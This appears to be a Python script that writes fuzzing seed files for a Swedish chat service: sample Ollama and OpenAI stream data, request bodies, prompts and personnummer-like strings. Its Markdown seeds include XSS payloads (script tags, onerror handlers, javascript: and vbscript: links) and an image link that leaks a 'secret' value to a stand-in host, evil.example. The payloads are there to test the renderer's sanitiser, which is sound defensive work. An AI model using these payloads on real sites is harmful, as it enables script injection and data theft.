#!/usr/bin/env python3
"""Writes the seed corpora in fuzz/corpus/<target>/: small realistic inputs in the wire formats
(Ollama NDJSON lines, OpenAI server-sent events, the two request bodies), Swedish prompts,
personnummer forms, and Markdown answers with the attacks the page's renderer must stop. Run it from anywhere; it rewrites only the seed_* files."""
import json, os, struct

HERE = os.path.dirname(os.path.abspath(__file__))

def write(target, name, data):
    folder = os.path.join(HERE, "corpus", target)
    os.makedirs(folder, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(folder, "seed_" + name), "wb") as f:
        f.write(data)

def header(event_cap, answer_cap_words, seed):
    # event cap = 1 + word % 4096, answer cap = word * 4 (see fuzz/src/lib.rs).
    return struct.pack("<HHI", event_cap - 1, answer_cap_words, seed)

ROOMY = header(4096, 0xFFFF, 0x1234567)
TIGHT = header(64, 40, 0x9E3779B9)
BYTEWISE = header(4096, 0xFFFF, 0xFF)

def ollama(tokens, reason="stop"):
    lines = [json.dumps({"model": "gpt-oss:20b", "created_at": "2025-01-01T00:00:00Z",
                         "message": {"role": "assistant", "content": t}, "done": False},
                        ensure_ascii=False) for t in tokens]
    lines.append(json.dumps({"model": "gpt-oss:20b", "created_at": "2025-01-01T00:00:01Z",
                             "message": {"role": "assistant", "content": ""}, "done": True,
                             "done_reason": reason, "total_duration": 2500000000,
                             "load_duration": 1000, "prompt_eval_count": 12, "eval_count": 7}))
    return "\n".join(lines) + "\n"

write("ndjson_stream", "answer", ROOMY + ollama(["Stockholm", " är", " Sveriges", " huvudstad."]).encode())
write("ndjson_stream", "length", BYTEWISE + ollama(["Hej", " då"], "length").encode())
write("ndjson_stream", "tight_caps", TIGHT + ollama(["å", "ä", "ö"]).encode())
write("ndjson_stream", "error_line", ROOMY + (json.dumps({"message": {"content": "Hej"}, "done": False}) + "\n" + '{"error":"model runner has unexpectedly stopped"}\n').encode())
write("ndjson_stream", "thinking", ROOMY + b'{"message":{"role":"assistant","content":"","thinking":"hmm"},"done":false}\r\n\r\n{"message":{"content":"Svar"},"done":false}\n{"done":true,"done_reason":"tool_calls"}')
write("ndjson_stream", "cut_off", ROOMY + b'{"message":{"content":"Hej"},"done":false}\n{"message":{"con')
write("ndjson_stream", "garbage", ROOMY + b"<html>502 Bad Gateway</html>\n")
ollama_call = json.dumps({"message": {"role": "assistant", "content": "", "tool_calls": [
    {"function": {"name": "weather", "arguments": {"city": "Umeå"}}},
    {"id": "call_b", "function": {"index": 1, "name": "clock", "arguments": {}}}]}, "done": False}, ensure_ascii=False)
write("ndjson_stream", "tool_calls", ROOMY + (ollama_call + "\n" + ollama([], "stop")).encode())

def chunk(delta=None, finish=None, usage=None, choices=True):
    body = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "gpt-4o-mini"}
    body["choices"] = [] if not choices else [{"index": 0, "delta": delta or {}, "finish_reason": finish}]
    if usage:
        body["usage"] = usage
    return "data: " + json.dumps(body, ensure_ascii=False) + "\n\n"

sse = (": OPENROUTER PROCESSING\n\n" + chunk({"role": "assistant", "content": ""})
       + chunk({"content": "Hej"}) + chunk({"content": " då"}) + chunk(finish="stop")
       + chunk(usage={"prompt_tokens": 3, "completion_tokens": 2, "total_tokens": 5}, choices=False)
       + "data: [DONE]\n\n")
write("sse_stream", "answer", ROOMY + sse.encode())
write("sse_stream", "crlf_bytewise", BYTEWISE + sse.replace("\n", "\r\n").encode())
write("sse_stream", "tight_caps", TIGHT + (chunk({"content": "älv"}) + "data: [DONE]\n\n").encode())
write("sse_stream", "fields", ROOMY + b"event: message\nid: 7\nretry: 100\ndata:first\ndata:  second\n\ndata\n\ndata: [DONE]")
write("sse_stream", "error_event", ROOMY + (chunk({"content": "Hej"}) + 'data: {"error":{"message":"overloaded","type":"server_error","code":529}}\n\n').encode())
write("sse_stream", "length_no_done", ROOMY + (chunk({"content": "x"}, finish="length")).encode())
def call(index, id=None, name=None, arguments=None):
    fragment = {"index": index, "function": {}}
    if id:
        fragment["id"], fragment["type"] = id, "function"
    if name is not None:
        fragment["function"]["name"] = name
    if arguments is not None:
        fragment["function"]["arguments"] = arguments
    return fragment
sse_calls = (chunk({"role": "assistant", "content": None})
             + chunk({"tool_calls": [call(0, "call_a", "weather", "")]})
             + chunk({"tool_calls": [call(0, arguments='{"stad":"Gö')]})
             + chunk({"tool_calls": [call(1, "call_b", "clock")]})
             + chunk({"tool_calls": [call(0, arguments='teborg"}')]})
             + chunk(finish="tool_calls") + "data: [DONE]\n\n")
write("sse_stream", "tool_calls", ROOMY + sse_calls.encode())
write("sse_stream", "tool_calls_bytewise", BYTEWISE + sse_calls.encode())
write("sse_stream", "reasoning", ROOMY + (chunk({"content": None, "reasoning_content": "hmm"}) + chunk({"content": "42"}) + "data: [DONE]\n").encode())

native = [
    {"message": "Vad är Sveriges huvudstad?"},
    {"message": "  Kom ihåg att min katt heter Måns  ", "stream": True},
    {"message": "Och den andra då?", "conversation_id": "0190f5a4-7d3e-7b1c-9a2e-3f4d5e6f7a8b", "user": "anna.svensson@example.se"},
    {"message": "Hej", "user": "two words"},
    {"message": " \t\n "},
    {"message": "hej", "mesage": "x"},
    {"message": 5},
    {"message": "Glöm att jag bor i Malmö", "conversation_id": "inte-ett-uuid"},
]
for i, body in enumerate(native):
    write("native_body", f"{i}", json.dumps(body, ensure_ascii=False))
write("native_body", "broken", '{"message": "Vad är klockan')

def user(text):
    return {"role": "user", "content": text}
openai_bodies = [
    {"model": "alice", "messages": [user("Vad är 2+2?")]},
    {"model": "gpt-4o-mini", "stream": True, "stream_options": {"include_usage": True}, "max_tokens": 64, "temperature": 0.7,
     "messages": [{"role": "system", "content": "Svara kort."}, user("Förklara fotosyntes"), {"role": "assistant", "content": "Växter gör socker av ljus."}, user("Och sedan?")]},
    {"model": "x", "messages": [{"role": "developer", "content": "S"}, {"role": "user", "content": [{"type": "text", "text": "a"}, {"type": "text", "text": "b"}]}], "max_completion_tokens": 3, "stop": ["\n", ""]},
    {"model": "x", "messages": [user("Hej")], "n": 2},
    {"model": "x", "messages": [user("Hej")], "tools": [{"type": "function", "function": {"name": "f"}}], "tool_choice": "auto"},
    {"model": "x", "messages": [user("Hej")], "tools": [], "tool_choice": "none", "seed": 1, "top_p": 0.9, "user": "u1"},
    {"model": "x", "messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:"}}]}]},
    {"model": "x", "messages": [{"role": "assistant", "content": "Jag fortsätter"}]},
    {"model": "x", "messages": [{"role": "tool", "content": "42"}, user("Hej")]},
    {"model": "x", "messages": [user("Hej")], "stop": "STOPP", "temperature": 2.5},
    {"model": "x", "messages": [user("Hej")], "max_tokens": 0},
    {"model": "x", "messages": []},
    {"model": "x", "messages": [user("lång " * 40)]},
    {"model": "x", "tools": [{"type": "function", "function": {"name": "weather", "parameters": {"type": "object"}}}],
     "tool_choice": {"type": "function", "function": {"name": "weather"}},
     "messages": [user("Vädret?"), {"role": "assistant", "content": None, "tool_calls": [
         {"id": "call_1", "type": "function", "function": {"name": "weather", "arguments": "{\"city\":\"Umeå\"}"}}]},
         {"role": "tool", "tool_call_id": "call_1", "content": "Snö"}]},
    {"model": "x", "messages": [user("Hej")], "functions": [{"name": "f"}]},
]
for i, body in enumerate(openai_bodies):
    write("openai_body", f"{i}", json.dumps(body, ensure_ascii=False))

numbers = [
    "mitt personnummer är 121212-1212",
    "Mitt pnr: 19121212-1212, och min frus 201212121212.",
    "samordningsnummer 701063-2391",
    "född 1912: 121212+1212",
    "ordernummer 1212121212121 och konto 12121212121",
    "ring 0701234567 eller 070-123 45 67",
    "121212-12120 121212-121",
    "åäö19121212-1212ö",
    "191212121212191212121212",
]
for i, text in enumerate(numbers):
    write("personal_number", f"{i}", text)

prompts = [
    "Vad är Sveriges huvudstad?",
    "  vad \t är\n\nklockan\u00a0 ",
    "«Förklara» \"fotosyntes\", tack; nu: snabbt.",
    "What's 'this'? don’t",
    "va\u0308der A\u030ar",
    "hu\u200bvud\u00adstad \ufeffhej",
    "a\u00ad\u0308",
    "Klockan 12:30. 3,5 * 2 = 7",
    "x^2 = 4 < 5 > 3 % (2+3)*4",
    "Hej!!! Hur mår du…",
    "ΑΣ ὈΔΥΣΣΕΎΣ İstanbul ß",
]
for i, text in enumerate(prompts):
    write("normalise", f"{i}", text)

markdown = [
    "# Svar\n\nStockholm är **Sveriges** huvudstad. Se [Wikipedia](https://sv.wikipedia.org/wiki/Stockholm).",
    "```rust\nfn main() { if a < b { println!(\"<hej>\"); } }\n```\n\nOch `inline<code>`.",
    "| Stad | Invånare |\n|:--|--:|\n| Umeå | 130 000 |\n| Malmö | 360 000 |",
    "1. ett\n   - a\n     - [x] klart\n     - [ ] kvar\n2. två\n\n> citat med ~~struken~~ text",
    "<script>alert(1)</script><img src=x onerror=alert(1)><a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "[x](javascript:alert(1)) [y](java\tscript:alert(1)) [z](data:text/html;base64,PHNjcmlwdD4=) [v](vbscript:x)",
    "![](https://evil.example/?q=hemligt) ![katt](data:image/png;base64,iVBORw0KGgo=) <https://example.se> <anna@example.se>",
    "[a](https://example.se \"<script>\") [ref]\n\n[ref]: javascript:alert(1) \"t onclick=x\"",
    "<div onclick=\"x\">\n<style>p{}</style>\n</div>\n\n<!-- kommentar --> <iframe src=https://example.se>",
    "```\"><script>alert(1)</script>\nkod\n```\n\n    indraget\n\n***\n\nrad  \nbryt",
]
for i, text in enumerate(markdown):
    write("markdown", f"{i}", text)
